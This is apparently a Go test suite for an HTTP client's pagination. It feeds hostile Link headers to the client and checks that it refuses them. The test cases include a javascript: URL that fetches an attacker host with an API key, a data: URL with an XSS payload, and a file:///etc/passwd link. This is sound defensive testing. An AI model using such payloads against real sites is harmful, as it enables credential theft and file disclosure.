package steady_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/steadyhttp/steady"
	"github.com/steadyhttp/steady/credentials"
	"github.com/steadyhttp/steady/paginate"
	"github.com/steadyhttp/steady/retry"
)

// Link headers a server may send: huge, crowded, looping, broken, and next
// links that point where a walk must not go.

// linkPageServer serves top-level JSON arrays of one item; page 1 carries
// the Link header values of first(srv), page 2 none.
func linkPageServer(t *testing.T, first func(s *hostileServer) []string) *hostileServer {
	t.Helper()
	var s *hostileServer
	s = newHostileServer(t, false, func(w http.ResponseWriter, r *http.Request) {
		page := r.URL.Query().Get("page")
		if page == "" {
			for _, v := range first(s) {
				w.Header().Add("Link", v)
			}
			page = "1"
		}
		fmt.Fprintf(w, `[{"page":%q}]`, page)
	})
	return s
}

// hugeLink returns n bytes or a little more of Link header text built by
// repeating unit, followed by tail.
func hugeLink(unit string, n int, tail string) string {
	return strings.Repeat(unit, n/len(unit)+1) + tail
}

func TestHostileLinkHeaderHuge(t *testing.T) {
	const mb = 1 << 20
	cases := []struct {
		name  string
		links func(s *hostileServer) []string
		// wantPage2 is the page query of the second request, "" when the
		// walk must end after page 1.
		wantPage2 string
	}{
		{"1 MB of other links, then next", func(*hostileServer) []string {
			return []string{hugeLink(`<https://elsewhere.example/alt>; rel="alternate", `, mb, `<?page=2>; rel="next"`)}
		}, "2"},
		{"next, then 1 MB of other links", func(*hostileServer) []string {
			return []string{`<?page=2>; rel="next", ` + hugeLink(`<?page=7>; rel="prev", `, mb, `<?page=9>`)}
		}, "2"},
		{"1 MB of parameters on the next link", func(*hostileServer) []string {
			return []string{`<?page=2>` + hugeLink(`; title="a page"`, mb, `; rel="next"`)}
		}, "2"},
		{"a 1 MB target", func(*hostileServer) []string {
			return []string{`<?page=2&pad=` + strings.Repeat("x", mb) + `>; rel="next"`}
		}, "2"},
		{"1 MB of an unterminated quoted string", func(*hostileServer) []string {
			return []string{`<?page=2>; rel="next"; title="` + strings.Repeat("q", mb)}
		}, "2"},
		{"1 MB of separators", func(*hostileServer) []string {
			return []string{strings.Repeat(", ", mb/2) + `<?page=2>; rel="next"`}
		}, "2"},
		{"1 MB of unmatched angle brackets", func(*hostileServer) []string {
			return []string{`<?page=2>; rel="next", ` + strings.Repeat("<", mb)}
		}, "2"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			srv := linkPageServer(t, c.links)
			cl := newClient(t, steady.Options{BaseURL: srv.URL, Policy: fast()})
			w, err := cl.Walk("/items", nil, paginate.Options{})
			if err != nil {
				t.Fatal(err)
			}
			pages, err := hostileWalk(t, w.All(context.Background()))
			if err != nil {
				t.Fatalf("walk: %v after %d pages, want the huge header handled", err, len(pages))
			}
			if len(pages) != 2 || pages[1].URL.Query().Get("page") != c.wantPage2 || !w.Summary().Complete {
				t.Fatalf("%d pages, summary %+v; want page 1 then page %s", len(pages), w.Summary(), c.wantPage2)
			}
			if srv.total.Load() != 2 {
				t.Errorf("server answered %d requests, want 2", srv.total.Load())
			}
		})
	}
}

func TestHostileLinkHeaderBeyondClientLimit(t *testing.T) {
	// net/http refuses response headers over 10 MB (its default
	// MaxResponseHeaderBytes) before any byte reaches steady: the attempt
	// fails without a response, is re-sent like any transport failure, and
	// the walk ends with the retry layer's typed error after the attempts.
	srv := linkPageServer(t, func(*hostileServer) []string {
		return []string{hugeLink(`<?page=7>; rel="prev", `, 11<<20, `<?page=2>; rel="next"`)}
	})
	cl := newClient(t, steady.Options{BaseURL: srv.URL, Policy: fast()})
	pages, err := hostileWalk(t, cl.Pages(context.Background(), "/items", nil, paginate.Options{}))
	var re *retry.Error
	if len(pages) != 0 || !errors.As(err, &re) || !errors.Is(err, retry.ErrExhausted) || re.Attempts != 3 {
		t.Fatalf("%d pages, err %v; want no page and a *retry.Error after 3 attempts", len(pages), err)
	}
	if got := srv.total.Load(); got != 3 {
		t.Errorf("server answered %d requests, want 3", got)
	}
}

func TestHostileLinkHeaderEscapesAllocateLinearly(t *testing.T) {
	// Each quoted parameter value holding a backslash escape makes
	// ParseLinkHeader allocate a buffer as long as the rest of the header,
	// so a header of n bytes made of such parameters allocates O(n²): 64 KB
	// costs about 180 MB, 1 MB about 45 GB and a minute of CPU. A walk
	// parses every page's header, so one hostile page is enough. (See
	// BenchmarkHostileLinkHeader for the times.) The bound asserted here is
	// generous: 64 bytes allocated per header byte.
	for _, unit := range []string{`<a>; t="\"", `, `<?page=2>; rel="next"; t="\\", `} {
		h := hugeLink(unit, 64<<10, "")
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		links := paginate.ParseLinkHeader([]string{h})
		runtime.ReadMemStats(&after)
		if len(links) == 0 {
			t.Fatalf("no links parsed from %.40q...", h)
		}
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 64*uint64(len(h)) {
			t.Errorf("parsing %d bytes of %q allocated %d MB; want O(n), at most %d KB",
				len(h), unit, alloc>>20, 64*len(h)>>10)
		}
	}
}

func TestHostileLinkHeaderTenThousandLinks(t *testing.T) {
	const n = 10000
	cases := []struct {
		name  string
		links func(s *hostileServer) []string
	}{
		{"one header, the next link last", func(*hostileServer) []string {
			var b strings.Builder
			for i := range n - 1 {
				fmt.Fprintf(&b, `<?page=%d>; rel="item", `, 100+i)
			}
			b.WriteString(`<?page=2>; rel="next"`)
			return []string{b.String()}
		}},
		{"10,000 next links, the first wins", func(*hostileServer) []string {
			var b strings.Builder
			b.WriteString(`<?page=2>; rel="next"`)
			for i := range n - 1 {
				fmt.Fprintf(&b, `, <?page=%d>; rel="next"`, 100+i)
			}
			return []string{b.String()}
		}},
		{"10,000 Link header lines", func(*hostileServer) []string {
			vs := make([]string, 0, n)
			for i := range n - 1 {
				vs = append(vs, fmt.Sprintf(`<?page=%d>; rel="prev"`, 100+i))
			}
			return append(vs, `<?page=2>; rel="next"`)
		}},
		{"10,000 anchored next links before the real one", func(*hostileServer) []string {
			var b strings.Builder
			for i := range n - 1 {
				fmt.Fprintf(&b, `<?page=%d>; rel="next"; anchor="#c%d", `, 100+i, i)
			}
			b.WriteString(`<?page=2>; rel="next"`)
			return []string{b.String()}
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			srv := linkPageServer(t, c.links)
			cl := newClient(t, steady.Options{BaseURL: srv.URL, Policy: fast()})
			pages, err := hostileWalk(t, cl.Pages(context.Background(), "/items", nil, paginate.Options{}))
			if err != nil || len(pages) != 2 || pages[1].URL.Query().Get("page") != "2" {
				t.Fatalf("%d pages, err %v; want page 1 then page 2", len(pages), err)
			}
			if srv.total.Load() != 2 {
				t.Errorf("server answered %d requests, want 2", srv.total.Load())
			}
		})
	}
}

func TestHostileLinkHeaderTruncatedNextLink(t *testing.T) {
	// A Link header cut short inside its next link (by a proxy's header
	// limit, say) names a next page the walk cannot read. Ending the walk
	// there passes page 1 off as the whole collection; the Next contract
	// says a malformed link is an error, never "".
	for _, header := range []string{
		`<?page=2; rel="next"`,
		`<https://elsewhere.example/a>; rel="alternate", <?page=2&size=100; rel="next"`,
	} {
		t.Run(header, func(t *testing.T) {
			srv := linkPageServer(t, func(*hostileServer) []string { return []string{header} })
			cl := newClient(t, steady.Options{BaseURL: srv.URL, Policy: fast()})
			w, err := cl.Walk("/items", nil, paginate.Options{})
			if err != nil {
				t.Fatal(err)
			}
			pages, err := hostileWalk(t, w.All(context.Background()))
			if len(pages) != 1 {
				t.Fatalf("%d pages, want page 1 yielded", len(pages))
			}
			if !errors.Is(err, paginate.ErrBadLink) || w.Summary().Complete {
				t.Errorf("walk ended with %v, complete %v; want paginate.ErrBadLink, not a complete walk of one page",
					err, w.Summary().Complete)
			}
		})
	}
}

func TestHostileLinkLoopAfterThousandPages(t *testing.T) {
	const last = 1000
	srv := newHostileServer(t, false, func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.Atoi(r.URL.Query().Get("page"))
		if n == 0 {
			n = 1
		}
		next := n + 1
		if n == last {
			next = 1 // back to the start, which was requested as ?page=1
		}
		w.Header().Set("Link", fmt.Sprintf(`</items?page=%d&token=t0k3n-%d>; rel="next"`, next, next))
		fmt.Fprintf(w, `[{"n":%d}]`, n)
	})
	// The first request carries the same query the loop returns to.
	cl := newClient(t, steady.Options{BaseURL: srv.URL, Policy: fast()})
	w, err := cl.Walk("/items?page=1&token=t0k3n-1", nil, paginate.Options{})
	if err != nil {
		t.Fatal(err)
	}
	pages, err := hostileWalk(t, w.All(context.Background()))
	if len(pages) != last {
		t.Fatalf("%d pages yielded before the error, want all %d", len(pages), last)
	}
	for i, p := range pages {
		var first string
		for _, it := range p.Items.All() {
			first = string(it)
			break
		}
		if p.Number != i+1 || first != fmt.Sprintf(`{"n":%d}`, i+1) {
			t.Fatalf("page %d is number %d with %s", i+1, p.Number, first)
		}
	}
	var pe *paginate.Error
	if !errors.As(err, &pe) || !errors.Is(err, paginate.ErrLoop) {
		t.Fatalf("walk ended with %v, want paginate.ErrLoop", err)
	}
	if pe.Page != last || !strings.Contains(pe.Link, "/items?page=1&token=REDACTED") {
		t.Errorf("loop error on page %d naming %q; want page %d and the redacted link", pe.Page, pe.Link, last)
	}
	if msg := err.Error(); !strings.Contains(msg, pe.Link) || strings.Contains(msg, "t0k3n") {
		t.Errorf("error text %q must name the link, redacted", msg)
	}
	if got := srv.total.Load(); got != last {
		t.Errorf("server answered %d requests, want %d: the repeated page must not be fetched", got, last)
	}
}

func TestHostileNextLinkRefused(t *testing.T) {
	foreign := newHostileServer(t, false, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "[]") })
	foreignHost := foreign.Listener.Addr().String()
	cases := []struct {
		name string
		tls  bool
		// link is page 1's next link; self is the server's own host:port.
		link     func(self string) string
		want     error
		wantLink func(self string) string // the redacted link the error names
		secret   string                   // must not appear in the error
	}{
		{"javascript", false,
			func(string) string { return `javascript:fetch('//evil.example/?api_key=s3cr3t')` },
			paginate.ErrScheme,
			func(string) string { return `javascript:fetch('//evil.example/?api_key=REDACTED` }, "s3cr3t"},
		{"data", false,
			func(string) string { return `data:text/html,%3Cscript%3Ealert(1)%3C/script%3E` },
			paginate.ErrScheme,
			func(string) string { return `data:text/html,%3Cscript%3Ealert(1)%3C/script%3E` }, ""},
		{"file", false,
			func(string) string { return `file:///etc/passwd` },
			paginate.ErrScheme,
			func(string) string { return `file:///etc/passwd` }, ""},
		{"https to http downgrade", true,
			func(self string) string { return "http://" + self + "/items?page=2&token=s3cr3t" },
			paginate.ErrDowngrade,
			func(self string) string { return "http://" + self + "/items?page=2&token=REDACTED" }, "s3cr3t"},
		{"cross-host", false,
			func(string) string { return "http://" + foreignHost + "/items?page=2&api_key=s3cr3t" },
			paginate.ErrCrossHost,
			func(string) string { return "http://" + foreignHost + "/items?page=2&api_key=REDACTED" }, "s3cr3t"},
		{"cross-host with userinfo", false,
			func(string) string { return "http://admin:s3cr3t@" + foreignHost + "/items?page=2" },
			paginate.ErrCrossHost,
			func(string) string { return "http://" + foreignHost + "/items?page=2" }, "s3cr3t"},
		{"the same server under another name", false,
			func(self string) string {
				return "http://localhost:" + self[strings.LastIndexByte(self, ':')+1:] + "/items?page=2"
			},
			paginate.ErrCrossHost,
			func(self string) string {
				return "http://localhost:" + self[strings.LastIndexByte(self, ':')+1:] + "/items?page=2"
			}, ""},
		{"protocol-relative to another host", false,
			func(string) string { return "//" + foreignHost + "/items?page=2" },
			paginate.ErrCrossHost,
			func(string) string { return "http://" + foreignHost + "/items?page=2" }, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := foreign.total.Load()
			var srv *hostileServer
			srv = newHostileServer(t, c.tls, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Link", "<"+c.link(srv.Listener.Addr().String())+`>; rel="next"`)
				io.WriteString(w, `[{"id":1}]`)
			})
			self := srv.Listener.Addr().String()
			cl := newClient(t, steady.Options{BaseURL: srv.URL, Transport: srv.Client().Transport, Policy: fast()})
			w, err := cl.Walk("/items", nil, paginate.Options{})
			if err != nil {
				t.Fatal(err)
			}
			pages, err := hostileWalk(t, w.All(context.Background()))
			if len(pages) != 1 || pages[0].Next != nil {
				t.Fatalf("%d pages, want page 1 yielded without a next URL", len(pages))
			}
			var pe *paginate.Error
			if !errors.As(err, &pe) || !errors.Is(err, c.want) {
				t.Fatalf("walk ended with %v, want %v", err, c.want)
			}
			if want := c.wantLink(self); pe.Link != want || pe.Page != 1 {
				t.Errorf("error names link %q on page %d, want %q on page 1", pe.Link, pe.Page, want)
			}
			msg := err.Error()
			if !strings.Contains(msg, pe.Link) || (c.secret != "" && strings.Contains(msg+fmt.Sprintf("%#v", pe), c.secret)) {
				t.Errorf("error %q must name the link, redacted", msg)
			}
			if errors.Is(c.want, paginate.ErrCrossHost) && (pe.Host == "" || !strings.Contains(msg, pe.Host) || !strings.Contains(msg, self)) {
				t.Errorf("cross-host error %q must name both hosts", msg)
			}
			if srv.total.Load() != 1 || foreign.total.Load() != before {
				t.Errorf("requests: %d to the server, %d to the foreign one; want only page 1",
					srv.total.Load(), foreign.total.Load()-before)
			}
			if w.Summary().Complete {
				t.Error("a walk stopped at a refused link reports itself complete")
			}
		})
	}
}

func TestHostileNextLinkUserinfoStripped(t *testing.T) {
	// ADR 0030: userinfo in a next link to an allowed host is dropped, not
	// refused; the page is fetched without it, and no error or URL of the
	// walk carries it.
	var mu sync.Mutex
	var auth []string
	var srv *hostileServer
	srv = newHostileServer(t, false, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auth = append(auth, r.Header.Get("Authorization"))
		mu.Unlock()
		if r.URL.Query().Get("page") == "" {
			w.Header().Set("Link", "<http://admin:s3cr3t@"+srv.Listener.Addr().String()+`/items?page=2>; rel="next"`)
		}
		io.WriteString(w, `[{"id":1}]`)
	})
	cl := newClient(t, steady.Options{BaseURL: srv.URL, Policy: fast()})
	pages, err := hostileWalk(t, cl.Pages(context.Background(), "/items", nil, paginate.Options{}))
	if err != nil || len(pages) != 2 {
		t.Fatalf("%d pages, err %v; want both pages", len(pages), err)
	}
	if pages[0].Next.User != nil || pages[1].URL.User != nil || strings.Contains(pages[1].URL.String(), "s3cr3t") {
		t.Errorf("page 2 URL %v keeps the link's userinfo", credentials.RedactURL(pages[1].URL))
	}
	mu.Lock()
	defer mu.Unlock()
	if len(auth) != 2 || auth[1] != "" {
		t.Errorf("Authorization headers seen %q; want none on page 2", auth)
	}
}
